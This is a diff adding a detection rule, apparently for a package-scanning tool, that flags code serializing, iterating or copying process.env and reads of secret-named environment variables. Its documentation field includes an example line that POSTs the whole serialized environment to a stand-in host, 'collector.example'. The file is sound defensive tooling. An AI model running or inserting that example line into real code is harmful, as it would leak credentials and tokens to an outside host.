@@ -1,0 +1,70 @@
+import type { Node } from '@babel/types';
+import { defineRule, type FileContext } from '../src/engine/rule.js';
+import { parentOf } from '../src/engine/walk.js';
+import { NON_SECRET_ENV_NAME, SECRET_ENV_NAME } from '../src/engine/indicators.js';
+
+/** Calls that turn the whole environment into data that can be sent somewhere. */
+const SERIALIZERS = new Set([
+  'JSON.stringify', 'Object.keys', 'Object.entries', 'Object.values', 'Object.getOwnPropertyNames', 'Reflect.ownKeys',
+  'querystring.stringify', 'querystring.encode', 'URLSearchParams', 'Buffer.from', 'btoa', 'util.inspect', 'v8.serialize',
+]);
+
+function isProcessEnv(node: Node, ctx: FileContext): boolean {
+  return ctx.evaluator.canonical(node) === 'process.env';
+}
+
+export default defineRule({
+  meta: {
+    id: 'env-access',
+    title: 'Environment harvesting',
+    description:
+      'Reports code that reads the whole environment (serializes, iterates, spreads or copies `process.env`) and reads of variables whose names hold secrets (tokens, keys, passwords). Reading one named setting is normal; collecting all of them is how credential stealers start.',
+    severity: 'medium',
+    category: 'environment',
+    references: ['https://nodejs.org/api/process.html#processenv'],
+    docs: {
+      example: 'https.request({ host: "collector.example", method: "POST" }).end(JSON.stringify(process.env))',
+      suppress: 'Allow the package version in tollgate.config.json, or set `"rules": { "env-access": "off" }`.',
+    },
+  },
+  create() {
+    return {
+      call(call, ctx) {
+        if (!call.callee || !SERIALIZERS.has(call.callee)) return;
+        const arg = call.node.arguments[0];
+        if (!arg || arg.type === 'ArgumentPlaceholder') return;
+        const target = arg.type === 'SpreadElement' ? arg.argument : arg;
+        if (isProcessEnv(target, ctx)) {
+          ctx.report({ node: call.node, message: `the whole environment is serialized with ${call.callee}(process.env)`, severity: 'high', signals: ['source:env-bulk'] });
+        }
+      },
+      nodes: {
+        ForInStatement(node, ctx) {
+          if (node.type === 'ForInStatement' && isProcessEnv(node.right, ctx)) {
+            ctx.report({ node, message: 'iterates over every environment variable', severity: 'medium', signals: ['source:env-bulk'] });
+          }
+        },
+        SpreadElement(node, ctx) {
+          if (node.type !== 'SpreadElement' || !isProcessEnv(node.argument, ctx)) return;
+          const parent = parentOf(node);
+          if (parent?.type !== 'ObjectExpression') return;
+          // `{ ...process.env, FOO: 1 }` handed to a child process is how env is normally passed on.
+          const holder = parentOf(parent);
+          if (holder?.type === 'ObjectProperty' && holder.key.type === 'Identifier' && holder.key.name === 'env') return;
+          ctx.report({ node, message: 'copies every environment variable into an object', severity: 'low', signals: ['source:env-bulk'] });
+        },
+        MemberExpression(node, ctx) {
+          if (node.type !== 'MemberExpression') return;
+          const canon = ctx.evaluator.canonical(node);
+          if (!canon?.startsWith('process.env.')) return;
+          const name = canon.slice('process.env.'.length);
+          if (name.includes('.')) return;
+          if (SECRET_ENV_NAME.test(name) && !NON_SECRET_ENV_NAME.test(name)) {
+            // Only the outermost read is reported (`process.env.X.trim()` is one read).
+            ctx.report({ node, message: `reads secret-bearing environment variable ${name}`, severity: 'low', signals: ['source:env-secret'] });
+          }
+        },
+      },
+    };
+  },
+});
